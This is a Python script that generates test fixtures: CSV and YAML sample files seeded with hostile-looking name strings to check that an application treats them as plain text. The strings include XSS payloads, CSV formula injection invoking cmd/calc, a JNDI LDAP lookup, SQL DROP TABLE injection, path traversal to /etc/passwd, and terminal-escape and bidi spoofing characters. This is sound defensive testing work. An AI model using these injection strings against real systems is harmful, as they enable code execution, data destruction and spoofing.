"""Writes samples/hostile anew: python3 Tests/Hostile/make.py"""

import csv
import pathlib

FOLDER = pathlib.Path(__file__).resolve().parents[2] / "samples" / "hostile"

# What stands in the place of names; each is the id of an entity that passes something on.
NAMES = [
    "<script>alert('ran')</script>",
    "\"><img src=x onerror=alert('ran')>",
    "<svg onload=alert('ran')><a xlink:href=\"javascript:alert('ran')\">x</a></svg>",
    "]]>--><!DOCTYPE x [<!ENTITY e \"e\">]>&e; &amp; &#60;b&#62;",
    "\"]; a -> b [label=<<b>x</b>>]; //",
    "\\N \\G \\L \\\" {a|<b>c}",
    "C:\\new\\table\\",
    "bell\x07 \x1b[31mred\x1b[0m \x1b]0;title\x07",
    "c1 \x9b31m \x85 \x7f",
    "\u202egnp.exe\u2066\u200f",
    "zero\u200bwidth\u2060\ufeff",
    "not of XML \x01\x0b\ufffe\uffff",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "../../etc/passwd",
    "/dev/null",
    "..\\..\\boot.ini",
    "two\r\nlines\ttab",
    "%s%n%x ${jndi:ldap://192.0.2.1/a} {{7*7}} {n}",
    "'; DROP TABLE records;--",
    "__proto__",
    "null",
    "a" + "\u0301" * 60,
    "\U0001f469\u200d\U0001f4bb \U000e0041",
    "很长的名字" * 60,
]

ZONES = ["in <b>&amp;", "mid \"]; x", "out =1+1"]
LONG = "ten thousand bytes <b> & \\ " * 380


def write(name, header, rows):
    with open(FOLDER / name, "w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, lineterminator="\n")
        writer.writerow(header)
        writer.writerows(rows)


def records():
    for place, name in enumerate(NAMES):
        following = NAMES[(place + 1) % len(NAMES)]
        # A separator of lists would only cut the name in two.
        yield [
            f"R{place + 1}" + [" <b>", " \\N", " =1", " ../x"][place % 4],
            f"2024-03-{place % 28 + 1:02}T09:00:00Z", name.replace(";", "⁏"),
            following.replace(";", "⁏"), NAMES[(place + 7) % len(NAMES)].replace(";", "⁏"),
            "I1 <i>" if place % 2 else "I2 \\G",
            LONG if place == 3 else NAMES[(place + 11) % len(NAMES)],
            "../../evidence/" + name.replace(";", "⁏"), NAMES[(place + 5) % len(NAMES)],
        ]


def entities():
    for place, name in enumerate(NAMES):
        yield [
            name.replace(";", "⁏"), LONG if place == 4 else "name of " + name, "person",
            ZONES[min(place // 9, 2)], NAMES[(place + 3) % len(NAMES)],
            NAMES[(place + 9) % len(NAMES)],
        ]


SETTINGS = """\
# Text that would be markup, a command or a path if it were taken for more than text.
title: "<script>alert('ran')</script> \\e[31m \\u202e \\\\N </title>"
zones: ["in <b>&amp;", "mid \\"]; x", "out =1+1"]
boundary: "out =1+1"
items:
  - id: "I1 <i>"
    title: "]]> </svg> \\a"
    permitted_zone: "in <b>&amp;"
    rule: "=HYPERLINK(\\"http://192.0.2.1\\") <img src=x onerror=alert('ran')>"
  - id: "I2 \\\\G"
    title: "../../x"
    marking: "\\u202edeton"
"""

FOLDER.mkdir(parents=True, exist_ok=True)
(FOLDER / "refused").mkdir(exist_ok=True)
write(
    "records.csv",
    ["id", "time", "from", "to", "channel", "item", "note", "evidence", "extra <b>=1"], records())
write(
    "entities.csv", ["id", "name", "kind", "zone", "organisation", "title"], entities())
(FOLDER / "case.yaml").write_text(SETTINGS, encoding="utf-8")
(FOLDER / "refused" / "nul.csv").write_bytes(b"id,from,to\nR1,A\x00B,C\n")
(FOLDER / "refused" / "invalid-utf-8.csv").write_bytes(b"id,from,to\nR1,A\xff\xfe\xc3\x28B,C\n")
